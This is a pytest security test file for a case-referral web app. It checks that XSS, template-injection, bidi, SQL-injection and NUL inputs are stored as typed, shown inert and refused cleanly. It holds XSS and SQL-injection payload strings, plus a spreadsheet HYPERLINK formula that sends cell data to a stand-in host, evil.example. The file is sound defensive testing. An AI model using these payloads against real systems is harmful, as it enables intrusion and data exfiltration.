"""Hostile content: script, markup, template and bidi payloads typed into every free-text
field are stored as typed and shown inert on every page that displays them.

The payloads go in through the same services the pages use (the API for case data, the
admin form for the directory); then each page that shows them is fetched by the user who
would see it, and the HTML is parsed: no live ``<script>``, no ``on…=`` event attribute,
no ``javascript:`` URL, no evaluated ``{{7*7}}``, and the Content-Security-Policy header
forbids inline script anyway. Also: over-long input is a 422 (never a 500), names with
SQL metacharacters are stored and searched like any other, and no route accepts file
uploads (Ruta has none, and this keeps the claim true).
"""

from __future__ import annotations

import copy
import re
from html.parser import HTMLParser
from typing import Any

import pytest
import sqlalchemy as sa

from caseapp.accounts.models import Organization
from caseapp.directory.models import Service
from caseapp.extensions import db
from caseapp.screening.models import Case, Person
from tests.conftest import csrf_from, login
from tests.integration.test_referral_lifecycle import MARIA, referral_of

RTL = "\u202e"
#: one payload with every trick; fits the 200-character name limit
HOSTILE = (
    '<script>alert(1)</script>"><img src=x onerror=alert(1)>ZZ{{7*7}}ZZ ${7*7} ' + RTL + "gnp.exe"
)
JS_URL = "javascript:alert(1)//"
SHORT = "<script>x</script>"  # for 20-character fields (bed)
#: what must never appear in a page: the payload alive
LIVE = ("<script>alert(1)", "<script>x</script>", "<img src=x", "ZZ49ZZ", "onerror=alert(1)>")
#: what shows the payload was displayed, escaped (so the test cannot pass vacuously)
SHOWN = ("&lt;script&gt;alert(1)&lt;/script&gt;", "\\u003cscript\\u003ealert(1)")


class Scan(HTMLParser):
    """Everything executable in a page, as a browser's parser would see it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…> event handler attribute")
            url = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
            if name in ("href", "src", "action", "formaction") and url.startswith("javascript:"):
                self.problems.append(f"<{tag} {name}={value!r}>")
        if tag == "script":
            src = dict(attrs).get("src") or ""
            if not src.startswith("/static/"):
                self.problems.append(f"<script src={src!r}> not served by Ruta")
            self._in_script = True
        if tag in ("img", "iframe", "object", "embed") and dict(attrs).get("src") == "x":
            self.problems.append(f"injected <{tag}>")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.problems.append(f"inline script: {data.strip()[:60]!r}")


def assert_inert(response: Any, where: str, *, shows: bool = True) -> None:
    assert response.status_code == 200, f"{where}: {response.status_code}"
    csp = response.headers.get("Content-Security-Policy", "")
    assert "script-src 'self'" in csp and "unsafe-inline" not in csp, f"{where}: CSP {csp!r}"
    assert "object-src 'none'" in csp and "base-uri 'none'" in csp, f"{where}: CSP {csp!r}"
    html = response.get_data(as_text=True)
    alive = [marker for marker in LIVE if marker in html]
    assert not alive, f"{where}: payload alive in the page: {alive}"
    scan = Scan()
    scan.feed(html)
    assert not scan.problems, f"{where}: {scan.problems}"
    if shows:
        assert any(marker in html for marker in SHOWN), f"{where}: the payload is not shown"


def _client(app: Any, user: dict[str, Any]) -> Any:
    client = app.test_client()
    response = login(client, user["email"], user["password"])
    assert response.status_code == 302, response.get_data(as_text=True)[:300]
    return client


@pytest.fixture
def hostile(app: Any, api: Any, users: Any) -> dict[str, Any]:
    """A case whose every free-text field is hostile, referred, declined, admitted."""
    referrer = api("supervisor", "ONG-REF-TUM-W")
    body = copy.deepcopy(MARIA)
    body["person"].update(
        given_names=HOSTILE,
        family_names=HOSTILE,
        contact=JS_URL + HOSTILE,
        address=HOSTILE,
        document={"type": "passport", "number": "<b>1</b>'\"--"},
    )
    body["notes"] = HOSTILE
    created = referrer.post("/api/v1/screenings", json=body)
    assert created.status_code == 201, created.json
    doc = created.json
    override = referrer.post(
        f"/api/v1/screenings/{doc['id']}/override",
        json={"status": "possible", "justification": HOSTILE},
    )
    assert override.status_code == 200, override.json
    # the shelter referral goes out under a consent override with hostile texts …
    shelter = referral_of(doc, "ngo_shelter")
    sent = referrer.post(
        f"/api/v1/referrals/{shelter['id']}/send",
        json={"consent_override_justification": HOSTILE, "risk_notes": HOSTILE},
    )
    assert sent.status_code == 200, sent.json
    # … then consent is recorded and the rest go out, one declined, one cancelled
    consent = referrer.post(
        f"/api/v1/cases/{doc['case_id']}/consent", json={"given": True, "scope": ["all"]}
    )
    assert consent.status_code == 201, consent.json
    cem = referral_of(doc, "cem")
    assert referrer.post(f"/api/v1/referrals/{cem['id']}/send").status_code == 200
    decliner = api("caseworker", cem["provider"]["code"])
    declined = decliner.post(
        f"/api/v1/referrals/{cem['id']}/decline", json={"reason": "other", "note": HOSTILE}
    )
    assert declined.status_code == 200, declined.json
    iom = referral_of(doc, "iom")
    cancelled = referrer.post(
        f"/api/v1/referrals/{iom['id']}/cancel", json={"reason": "other", "note": HOSTILE}
    )
    assert cancelled.status_code == 200, cancelled.json
    shelter_worker = api("caseworker", "ONG-REF-LIM-W")
    assert shelter_worker.post(f"/api/v1/referrals/{shelter['id']}/accept").status_code == 200
    admitted = shelter_worker.post(
        "/api/v1/admissions", json={"referral_id": shelter["id"], "bed": SHORT}
    )
    assert admitted.status_code == 201, admitted.json

    admin = users.create("admin", "PNP-TRATA-LIM")
    admin_client = _client(app, admin)
    service = db.session.scalar(
        sa.select(Service)
        .join(Organization)
        .where(Organization.code == "ONG-REF-LIM-W", Service.service_type == "ngo_shelter")
    )
    edit_url = f"/directory/ONG-REF-LIM-W/services/{service.id}/edit"
    form = admin_client.get(edit_url).get_data(as_text=True)
    edited = admin_client.post(
        edit_url,
        data={
            "csrf_token": csrf_from(form),
            "name": HOSTILE,
            "region": "1501",
            "city": "<img src=x onerror=alert(1)>",
            "min_age": "18",
            "max_age": "120",
            "sexes": "F",
            "accepts_transgender": "y",
            "accepts_foreign": "y",
            "capacity": str(service.capacity or 10),
            "hours": "24/7",
            "languages": "es",
            "nationalities": "",
            "serves": "",
            "notes": JS_URL + HOSTILE,
            "is_active": "y",
        },
    )
    assert edited.status_code == 302, edited.get_data(as_text=True)[:2000]
    # a legal hold's reason (the court order): an encrypted audit note, not audit text
    hold = referrer.post(
        f"/api/v1/cases/{doc['case_id']}/legal-hold", json={"hold": True, "reason": HOSTILE}
    )
    assert hold.status_code == 200, hold.json
    return {
        "doc": doc,
        "shelter": shelter["id"],
        "cem": cem["id"],
        "referrer": _client(app, users.create("supervisor", "ONG-REF-TUM-W")),
        "receiver": _client(app, users.create("caseworker", "ONG-REF-LIM-W")),
        "admin": admin_client,
        "referrer_api": referrer,
    }


def test_every_page_shows_hostile_content_inert(hostile: dict[str, Any]) -> None:
    doc = hostile["doc"]
    case, screening, shelter = doc["case_id"], doc["id"], hostile["shelter"]
    pages = [
        ("referrer", "/cases"),
        ("referrer", f"/cases/{case}"),
        ("referrer", f"/cases/{case}/edit"),
        ("referrer", f"/cases/{case}/consent"),
        ("referrer", f"/screenings/{screening}"),
        ("referrer", "/referrals/outgoing"),
        ("referrer", f"/referrals/{shelter}"),
        ("referrer", f"/referrals/{hostile['cem']}"),
        ("referrer", f"/referrals/{shelter}/letter"),
        ("receiver", "/referrals/incoming"),
        ("receiver", f"/referrals/{shelter}"),
        ("receiver", f"/referrals/{shelter}/letter"),
        ("receiver", "/shelters/"),
        ("admin", "/admin/audit/"),
        ("admin", "/directory/"),
        ("admin", "/directory/ONG-REF-LIM-W"),
    ]
    # pages that show none of the long payload by design: short fields only (bed), or
    # nothing about the person (consent form, the referrer's page of a declined referral,
    # the audit log: its events hold codes and ids, never free text, ADR 0014)
    quiet = {
        "/shelters/",
        f"/cases/{case}/consent",
        f"/referrals/{hostile['cem']}",
        "/admin/audit/",
    }
    for who, url in pages:
        response = hostile[who].get(url)
        assert_inert(response, f"{who} {url}", shows=url not in quiet)
    shelter_page = hostile["receiver"].get("/shelters/").get_data(as_text=True)
    assert "&lt;script&gt;x&lt;/script&gt;" in shelter_page  # the hostile bed, escaped
    # the API's own HTML (the letter) is inert too
    letter = hostile["referrer_api"].get(f"/api/v1/referrals/{shelter}/letter")
    assert_inert(letter, "API letter")


def test_every_text_comes_back_exactly_as_typed(hostile: dict[str, Any]) -> None:
    """Escaping happens at display only: the stored value (bidi override included) is
    exactly what was typed, through encryption and back."""
    api = hostile["referrer_api"]
    case = api.get(f"/api/v1/cases/{hostile['doc']['case_id']}").json
    assert case["person"]["given_names"] == HOSTILE
    assert case["person"]["contact"] == JS_URL + HOSTILE
    assert case["person"]["document"]["number"] == "<b>1</b>'\"--"
    screening = api.get(f"/api/v1/screenings/{hostile['doc']['id']}").json
    assert screening["override"]["justification"] == HOSTILE
    shelter = api.get(f"/api/v1/referrals/{hostile['shelter']}").json
    assert shelter["provider"]["name"] == HOSTILE


def test_template_syntax_in_input_is_never_evaluated(hostile: dict[str, Any]) -> None:
    html = hostile["referrer"].get(f"/screenings/{hostile['doc']['id']}").get_data(as_text=True)
    assert "ZZ{{7*7}}ZZ" in html and "ZZ49ZZ" not in html
    assert "${7*7}" in html


@pytest.mark.parametrize(
    ("path", "limit"),
    [
        (("person", "given_names"), 200),
        (("person", "family_names"), 200),
        (("person", "contact"), 500),
        (("person", "address"), 500),
        (("notes",), 10_000),
    ],
)
def test_over_long_texts_are_422_and_the_longest_allowed_renders(
    api: Any, app: Any, users: Any, path: tuple[str, ...], limit: int
) -> None:
    screener = api("screener")
    body = copy.deepcopy(MARIA)
    target = body
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = "<script>" + "x" * (limit - 8 + 1)
    too_long = screener.post("/api/v1/screenings", json=body)
    assert too_long.status_code == 422
    assert ".".join(path) in too_long.json["error"]["fields"]
    target[path[-1]] = "<script>" + "x" * (limit - 8)
    created = screener.post("/api/v1/screenings", json=body)
    assert created.status_code == 201, created.json
    client = _client(app, users.create("screener"))
    pages = [
        client.get(f"/cases/{created.json['case_id']}"),
        client.get(f"/screenings/{created.json['id']}"),
    ]
    assert all(page.status_code == 200 for page in pages)
    html = "".join(page.get_data(as_text=True) for page in pages)
    assert "<script>xxx" not in html
    assert "&lt;script&gt;xxx" in html or path == ("notes",)  # notes stay off the pages


def test_a_body_over_five_megabytes_is_413(api: Any) -> None:
    body = copy.deepcopy(MARIA)
    body["notes"] = "x" * (5 * 1024 * 1024 + 1)
    response = api("screener").post("/api/v1/screenings", json=body)
    assert response.status_code == 413
    assert response.json["error"]["code"] == "payload_too_large"


SQL_NAMES = [
    ("Robert'); DROP TABLE persons;--", "O'Brien"),
    ("1' OR '1'='1", '"; DELETE FROM cases; --'),
    ("%_\\", "'; SELECT pg_sleep(5);--"),
]


@pytest.mark.parametrize(("given", "family"), SQL_NAMES)
def test_sql_metacharacters_are_just_text(api: Any, given: str, family: str) -> None:
    """Every query binds its parameters: a name full of SQL is stored, found by the exact
    search and matches nothing else (the blind index is an HMAC, never a LIKE)."""
    screener = api("screener", "PNP-TRATA-CUS")
    before = db.session.scalar(sa.select(sa.func.count(Case.id)))
    body = copy.deepcopy(MARIA)
    body["person"].update(given_names=given, family_names=family)
    created = screener.post("/api/v1/screenings", json=body)
    assert created.status_code == 201, created.json
    assert db.session.scalar(sa.select(sa.func.count(Case.id))) == before + 1
    assert db.session.scalar(sa.select(sa.func.count(Person.id))) >= before + 1
    found = screener.get("/api/v1/cases", query_string={"q": f"{given} {family}"}).json
    assert [c["id"] for c in found["items"]] == [created.json["case_id"]]
    assert found["items"][0]["person"]["given_names"] == given
    assert found["items"][0]["person"]["family_names"] == family
    nothing = screener.get("/api/v1/cases", query_string={"q": "' OR '1'='1"}).json
    assert nothing["total"] == 0
    directory = screener.get("/api/v1/organizations", query_string={"q": "' OR 1=1 --"})
    assert directory.status_code == 200 and directory.json["total"] == 0


#: The one upload Ruta has: the supervisors' register import page (docs/imports.md). Its
#: file is read in memory by the import readers and kept encrypted in the database; its
#: hostile-content tests are in test_import_pages.py.
UPLOAD_FILES = {"imports/forms.py", "web/templates/imports/index.html"}


def test_no_route_accepts_file_uploads(app: Any) -> None:
    """No upload but the register import page. No other form is multipart, no view reads
    request.files, and the OpenAPI document describes no multipart or binary request body."""
    import inspect
    from pathlib import Path

    import caseapp

    root = Path(caseapp.__file__).parent
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*")
        if path.suffix in (".py", ".html")
        and re.search(
            r"request\.files|FileField|multipart/form-data|FileStorage",
            path.read_text(encoding="utf-8"),
        )
    ]
    assert set(offenders) == UPLOAD_FILES, f"file upload handling appeared in {offenders}"
    for rule in app.url_map.iter_rules():
        view = app.view_functions[rule.endpoint]
        source = inspect.getsource(inspect.unwrap(view)) if rule.endpoint != "static" else ""
        assert "request.files" not in source, rule.endpoint
    document = app.test_client().get("/api/v1/openapi.json").json
    for path, operations in document["paths"].items():
        for method, operation in operations.items():
            content = operation.get("requestBody", {}).get("content", {})
            assert set(content) <= {"application/json"}, (method, path, set(content))


def test_multipart_posts_are_refused_not_stored(api: Any) -> None:
    """A file posted to the API anyway is rejected as a non-JSON body (400), not kept."""
    import io

    screener = api("screener")
    response = screener.client.post(
        "/api/v1/screenings",
        data={"file": (io.BytesIO(b"<script>alert(1)</script>"), "evil.html")},
        headers={"Authorization": f"Bearer {screener.token}"},
        content_type="multipart/form-data",
    )
    assert response.status_code == 400
    assert response.json["error"]["code"] == "malformed_json"


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Ver")'


def test_exports_keep_a_hostile_directory_name_as_text(api: Any) -> None:
    """Cross-check of tests/unit/test_exports.py end to end: text an admin typed into the
    directory reaches the occupancy export as a provider name, and neither the CSV nor
    the XLSX turns it into a formula."""
    import csv
    import io

    from openpyxl import load_workbook

    org = db.session.scalar(sa.select(Organization).where(Organization.code == "ONG-REF-LIM-W"))
    org.name = FORMULA
    db.session.commit()
    statistician = api("statistician")
    as_csv = statistician.get("/api/v1/reports/occupancy?format=csv")
    assert as_csv.status_code == 200, as_csv.get_data(as_text=True)[:500]
    rows = list(csv.reader(io.StringIO(as_csv.get_data().decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert cells, "the provider name should be in the export"
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
    as_xlsx = statistician.get("/api/v1/reports/occupancy?format=xlsx")
    assert as_xlsx.status_code == 200
    book = load_workbook(io.BytesIO(as_xlsx.get_data()))
    found = [
        cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert found, "the provider name should be in the workbook"
    assert all(cell.data_type == "s" and not cell.value.startswith("=") for cell in found)


def test_nul_characters_are_refused_everywhere_never_a_500(app: Any, api: Any, users: Any) -> None:
    """PostgreSQL cannot store U+0000 and its driver raised a 500 on every plain-text
    column, query parameter and path (cancel reasons, directory search, login e-mail,
    /cases/<id>…). The request is refused before any of that: 404 in a path, else 422."""
    screener = api("screener", "ONG-REF-TUM-W")
    body = copy.deepcopy(MARIA)
    body["consent"] = {"given": True, "scope": ["all"]}
    doc = screener.post("/api/v1/screenings", json=body).json
    iom = referral_of(doc, "iom")["id"]
    worker = api("caseworker", "ONG-REF-LIM-W")
    cases_before = db.session.scalar(sa.select(sa.func.count(Case.id)))
    api_calls = {
        "screening notes": (screener, "post", "/api/v1/screenings", body | {"notes": "a\x00"}),
        "cancel reason": (screener, "post", f"/api/v1/referrals/{iom}/cancel", {"reason": "x\x00"}),
        "directory search": (screener, "get", "/api/v1/organizations?q=a%00", None),
        "case search": (screener, "get", "/api/v1/cases?q=a%00", None),
        "case path": (screener, "get", "/api/v1/cases/a%00b", None),
        "screening path": (screener, "get", "/api/v1/screenings/a%00b", None),
        "referral path": (screener, "get", "/api/v1/referrals/a%00b", None),
        "admission referral": (worker, "post", "/api/v1/admissions", {"referral_id": "a\x00"}),
        "unknown parameter": (screener, "get", "/api/v1/cases/x?a%00=1", None),
    }
    for name, (caller, method, url, payload) in api_calls.items():
        response = getattr(caller, method)(url, **({"json": payload} if payload else {}))
        assert response.status_code in (404, 422), (name, response.status_code)
        if response.status_code == 422:
            assert "NUL" in str(response.json["error"]["fields"]), name
    keyed = screener.post("/api/v1/screenings", json=MARIA, headers={"Idempotency-Key": "key\x00"})
    assert keyed.status_code == 422 and "Idempotency-Key" in keyed.json["error"]["fields"]
    assert db.session.scalar(sa.select(sa.func.count(Case.id))) == cases_before

    anonymous = app.test_client()
    form = anonymous.get("/login").get_data(as_text=True)
    login_attempt = anonymous.post(
        "/login",
        data={"email": "a\x00@x.pe", "password": "x", "csrf_token": csrf_from(form)},
    )
    assert login_attempt.status_code == 422
    pages = _client(app, users.create("screener", "ONG-REF-TUM-W"))
    for url, expected in (
        ("/cases/a%00b", 404),
        ("/referrals/a%00b", 404),
        ("/directory/A%00", 404),
        ("/directory/?q=a%00", 422),
        ("/cases?q=a%00", 422),
    ):
        assert pages.get(url).status_code == expected, url


def test_out_of_range_numbers_and_dates_are_refused_never_a_500(
    app: Any, api: Any, users: Any
) -> None:
    """Found by fuzzing: a page number or sequence beyond 64 bits overflowed the driver,
    and a year-1 date with a positive offset overflowed when converted to UTC."""
    huge = "9" * 30
    screener = api("screener", "ONG-REF-TUM-W")
    for url in (f"/api/v1/cases?page={huge}", f"/api/v1/referrals?page={huge}"):
        response = screener.get(url)
        assert response.status_code == 422 and "page" in response.json["error"]["fields"]
    ancient = copy.deepcopy(MARIA) | {"identified_at": "0001-01-01T00:00:00+05:00"}
    refused = screener.post("/api/v1/screenings", json=ancient)
    assert refused.status_code == 422 and "identified_at" in refused.json["error"]["fields"]
    body = copy.deepcopy(MARIA)
    body["consent"] = {"given": True, "scope": ["all"]}
    shelter = referral_of(screener.post("/api/v1/screenings", json=body).json, "ngo_shelter")
    screener.post(f"/api/v1/referrals/{shelter['id']}/send")
    worker = api("caseworker", "ONG-REF-LIM-W")
    worker.post(f"/api/v1/referrals/{shelter['id']}/accept")
    admission = worker.post(
        "/api/v1/admissions",
        json={"referral_id": shelter["id"], "admitted_at": "0001-01-01T00:00:00+14:00"},
    )
    assert admission.status_code == 422 and "admitted_at" in admission.json["error"]["fields"]
    pages = _client(app, users.create("screener", "ONG-REF-TUM-W"))
    assert pages.get(f"/cases?page={huge}").status_code == 200
    auditor = _client(app, users.create("admin", "PNP-TRATA-LIM"))
    assert auditor.get(f"/admin/audit/?before={huge}").status_code == 200
